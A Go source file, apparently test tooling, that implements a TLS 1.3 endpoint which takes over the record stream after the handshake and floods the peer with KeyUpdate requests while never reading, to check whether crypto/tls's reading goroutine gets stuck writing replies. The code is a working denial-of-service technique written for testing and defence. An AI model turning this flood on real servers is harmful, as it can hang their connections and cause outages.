// Package tlsattack is a TLS 1.3 end (client or server) for tests that
// sends what crypto/tls cannot be made to send: a KeyUpdate asking the peer
// to update its keys too (RFC 8446 section 4.6.3), as often as the test
// wants, on a connection that reads nothing. crypto/tls answers each one
// from inside tls.Conn.Read, so a peer that asks and never reads makes the
// other end's reading goroutine write.
//
// The handshake, and whatever the test exchanges first (an HTTP upgrade),
// run through crypto/tls; Take then hands the write side to the test, which
// continues the record stream with the traffic secret crypto/tls logged
// (Config.KeyLogWriter) and never reads again.
package tlsattack

import (
	"bytes"
	"crypto/aes"
	"crypto/cipher"
	"crypto/hkdf"
	"crypto/sha256"
	"crypto/sha512"
	"crypto/tls"
	"encoding/binary"
	"encoding/hex"
	"errors"
	"fmt"
	"hash"
	"net"
	"os"
	"runtime"
	"strings"
	"sync"
	"time"

	"golang.org/x/crypto/chacha20poly1305"
)

// Conn is a TLS 1.3 connection, either end. Until Take it is the *tls.Conn;
// after it, only the Append methods and Write are used.
type Conn struct {
	*tls.Conn
	raw *counter
	log *keyLog
	// label names this end's first application traffic secret in the
	// key log.
	label string

	// After Take: the client's current traffic secret, its keys and the
	// sequence number of the next record.
	hash   func() hash.Hash
	keyLen int
	chacha bool
	secret []byte
	aead   cipher.AEAD
	iv     [12]byte
	seq    uint64
	// pending is what Flood has not written yet.
	pending []byte
}

// Dial opens a TCP connection to addr with a send buffer of sndBuf bytes
// (0: the system's, which grows to megabytes; with a small one a write soon
// stalls once the peer stops reading) and runs a TLS 1.3 handshake on it
// with cfg (copied; its KeyLogWriter is replaced).
func Dial(addr string, cfg *tls.Config, sndBuf int) (*Conn, error) {
	nc, err := net.DialTimeout("tcp", addr, 5*time.Second)
	if err != nil {
		return nil, err
	}
	if sndBuf > 0 {
		_ = nc.(*net.TCPConn).SetWriteBuffer(sndBuf)
	}
	c, err := handshake(nc, cfg, tls.Client, "CLIENT_TRAFFIC_SECRET_0")
	if err != nil {
		nc.Close()
	}
	return c, err
}

// Server runs a TLS 1.3 handshake as the server on nc (accepted by the
// test) with cfg (copied; its KeyLogWriter is replaced, and it sends no
// session tickets: they would be written after the handshake, unseen).
func Server(nc net.Conn, cfg *tls.Config) (*Conn, error) {
	cfg = cfg.Clone()
	cfg.SessionTicketsDisabled = true
	return handshake(nc, cfg, tls.Server, "SERVER_TRAFFIC_SECRET_0")
}

func handshake(nc net.Conn, cfg *tls.Config, end func(net.Conn, *tls.Config) *tls.Conn, label string) (*Conn, error) {
	c := &Conn{raw: &counter{Conn: nc}, log: &keyLog{}, label: label}
	cfg = cfg.Clone()
	cfg.MinVersion, cfg.MaxVersion = tls.VersionTLS13, tls.VersionTLS13
	cfg.KeyLogWriter = c.log
	// Whole records: what the test writes through crypto/tls before
	// Take is counted in records.
	cfg.DynamicRecordSizingDisabled = true
	c.Conn = end(c.raw, cfg)
	_ = c.SetDeadline(time.Now().Add(10 * time.Second))
	if err := c.Handshake(); err != nil {
		return nil, err
	}
	_ = c.SetDeadline(time.Time{})
	c.raw.start()
	return c, nil
}

// Take hands the write side over from crypto/tls: the records the test
// appends continue the stream crypto/tls wrote. Nothing must use the
// *tls.Conn afterwards.
func (c *Conn) Take() error {
	st := c.ConnectionState()
	switch st.CipherSuite {
	case tls.TLS_AES_128_GCM_SHA256:
		c.hash, c.keyLen = sha256.New, 16
	case tls.TLS_AES_256_GCM_SHA384:
		c.hash, c.keyLen = sha512.New384, 32
	case tls.TLS_CHACHA20_POLY1305_SHA256:
		c.hash, c.keyLen, c.chacha = sha256.New, chacha20poly1305.KeySize, true
	default:
		return fmt.Errorf("tlsattack: cipher suite %#x", st.CipherSuite)
	}
	secret, err := c.log.secret(c.label)
	if err != nil {
		return err
	}
	n, err := c.raw.records()
	if err != nil {
		return err
	}
	if err := c.setSecret(secret); err != nil {
		return err
	}
	c.seq = uint64(n)
	return nil
}

// keyLog is a connection's key log (Config.KeyLogWriter).
type keyLog struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (l *keyLog) Write(p []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.b.Write(p)
}

// secret finds the secret label names.
func (l *keyLog) secret(label string) ([]byte, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	for _, line := range strings.Split(l.b.String(), "\n") {
		f := strings.Fields(line)
		if len(f) == 3 && f[0] == label {
			return hex.DecodeString(f[2])
		}
	}
	return nil, errors.New("tlsattack: no " + label + " in the key log")
}

// setSecret derives the record keys of a traffic secret (RFC 8446 7.3).
func (c *Conn) setSecret(secret []byte) error {
	key, err := c.expandLabel(secret, "key", c.keyLen)
	if err != nil {
		return err
	}
	iv, err := c.expandLabel(secret, "iv", len(c.iv))
	if err != nil {
		return err
	}
	if c.chacha {
		c.aead, err = chacha20poly1305.New(key)
	} else {
		var b cipher.Block
		if b, err = aes.NewCipher(key); err == nil {
			c.aead, err = cipher.NewGCM(b)
		}
	}
	if err != nil {
		return err
	}
	c.secret = secret
	copy(c.iv[:], iv)
	c.seq = 0
	return nil
}

// expandLabel is HKDF-Expand-Label with an empty context (RFC 8446 7.1).
func (c *Conn) expandLabel(secret []byte, label string, n int) ([]byte, error) {
	full := "tls13 " + label
	info := make([]byte, 0, 4+len(full))
	info = binary.BigEndian.AppendUint16(info, uint16(n))
	info = append(info, byte(len(full)))
	info = append(info, full...)
	info = append(info, 0) // the context: empty
	return hkdf.Expand(c.hash, secret, string(info), n)
}

// Record content types and the KeyUpdate handshake message (RFC 8446 4.6.3).
const (
	typeHandshake   = 22
	typeApplication = 23
	msgKeyUpdate    = 24
	updateRequested = 1
)

// appendRecord appends one encrypted record holding p of content type typ.
func (c *Conn) appendRecord(dst []byte, typ byte, p []byte) []byte {
	n := len(p) + 1 + c.aead.Overhead()
	hdr := []byte{typeApplication, 3, 3, byte(n >> 8), byte(n)}
	var nonce [12]byte
	binary.BigEndian.PutUint64(nonce[4:], c.seq)
	for i := range nonce {
		nonce[i] ^= c.iv[i]
	}
	c.seq++
	inner := append(append(make([]byte, 0, len(p)+1), p...), typ)
	return c.aead.Seal(append(dst, hdr...), nonce[:], inner, hdr)
}

// AppendKeyUpdate appends a KeyUpdate record with update_requested, then
// moves on to the next traffic secret, as the peer will for what follows.
func (c *Conn) AppendKeyUpdate(dst []byte) []byte {
	dst = c.appendRecord(dst, typeHandshake, []byte{msgKeyUpdate, 0, 0, 1, updateRequested})
	next, err := c.expandLabel(c.secret, "traffic upd", len(c.secret))
	if err == nil {
		err = c.setSecret(next)
	}
	if err != nil {
		panic(err) // the sizes are fixed: cannot happen
	}
	return dst
}

// AppendData appends p as application data, in records of at most 16 KiB.
func (c *Conn) AppendData(dst, p []byte) []byte {
	for len(p) > 0 {
		k := min(len(p), 16<<10)
		dst = c.appendRecord(dst, typeApplication, p[:k])
		p = p[k:]
	}
	return dst
}

// Flood sends "KeyUpdate(update_requested) + a byte of application data"
// over and over (after Take), the bytes from next (crypto/tls fails a
// connection after 16 records in a row that carry none), until done
// reports true. It tells done, after each write, whether that write made
// no progress for 100 ms: the peer has stopped reading. It returns the
// KeyUpdates sent, and an error when a write fails or within passes first.
func (c *Conn) Flood(next func() byte, done func(stalled bool) bool, within time.Duration) (int, error) {
	end := time.Now().Add(within)
	sent := 0
	for {
		if len(c.pending) == 0 {
			for range 512 {
				c.pending = c.AppendKeyUpdate(c.pending)
				c.pending = c.AppendData(c.pending, []byte{next()})
			}
			sent += 512
		}
		_ = c.SetWriteDeadline(time.Now().Add(100 * time.Millisecond))
		n, err := c.Write(c.pending)
		c.pending = c.pending[n:]
		timedOut := errors.Is(err, os.ErrDeadlineExceeded)
		if err != nil && !timedOut {
			return sent, err
		}
		if done(n == 0 && timedOut) {
			return sent, nil
		}
		if time.Now().After(end) {
			return sent, fmt.Errorf("tlsattack: %d KeyUpdates in %v and not done", sent, within)
		}
	}
}

// Stalled returns a done function for Flood that reports true once the
// peer has stopped reading and held(), asked after each write that made no
// progress, has reported true three such writes in a row (300 ms): a
// goroutine that waits for its socket only until the data in flight has
// reached the peer's buffer is not taken for one stuck there.
func Stalled(held func() bool) func(stalled bool) bool {
	n := 0
	return func(stalled bool) bool {
		if stalled && held() {
			n++
		} else {
			n = 0
		}
		return n >= 3
	}
}

// StuckInKeyUpdate reports whether a goroutine of this process waits for
// its socket in crypto/tls's answer to a KeyUpdate: a reading goroutine
// stuck there while its peer does not read.
func StuckInKeyUpdate() bool {
	buf := make([]byte, 1<<20)
	for {
		n := runtime.Stack(buf, true)
		if n < len(buf) {
			buf = buf[:n]
			break
		}
		buf = make([]byte, 2*len(buf))
	}
	for _, g := range strings.Split(string(buf), "\n\n") {
		if strings.Contains(g, "[IO wait") && strings.Contains(g, "crypto/tls.(*Conn).handleKeyUpdate") {
			return true
		}
	}
	return false
}

// Write writes records appended by the Append methods to the socket, after
// Take. (Before it, Write is the *tls.Conn's.)
func (c *Conn) Write(b []byte) (int, error) {
	if c.aead == nil {
		return c.Conn.Write(b)
	}
	return c.raw.Conn.Write(b)
}

// SetWriteDeadline sets the socket's write deadline.
func (c *Conn) SetWriteDeadline(t time.Time) error { return c.raw.Conn.SetWriteDeadline(t) }

// Close closes the socket. Unread bytes in it make the kernel reset the
// connection, which ends a peer's write blocked on it.
func (c *Conn) Close() error { return c.raw.Conn.Close() }

// counter is the TCP connection under the tls.Conn: it counts the records
// crypto/tls writes once the handshake is done (the sequence number Take
// continues from).
type counter struct {
	net.Conn
	mu       sync.Mutex
	counting bool
	n        int
	hdr      []byte // a record header in progress
	left     int    // bytes of the current record's body still to come
}

func (c *counter) start() {
	c.mu.Lock()
	c.counting = true
	c.mu.Unlock()
}

func (c *counter) Write(p []byte) (int, error) {
	c.mu.Lock()
	if c.counting {
		for q := p; len(q) > 0; {
			if c.left > 0 {
				k := min(c.left, len(q))
				c.left -= k
				q = q[k:]
				continue
			}
			k := min(5-len(c.hdr), len(q))
			c.hdr = append(c.hdr, q[:k]...)
			q = q[k:]
			if len(c.hdr) == 5 {
				c.n++
				c.left = int(binary.BigEndian.Uint16(c.hdr[3:]))
				c.hdr = c.hdr[:0]
			}
		}
	}
	c.mu.Unlock()
	return c.Conn.Write(p)
}

// records returns the records written since the handshake, all whole.
func (c *counter) records() (int, error) {
	c.mu.Lock()
	defer c.mu.Unlock()
	if c.left > 0 || len(c.hdr) > 0 {
		return 0, errors.New("tlsattack: a record is half written")
	}
	c.counting = false
	return c.n, nil
}
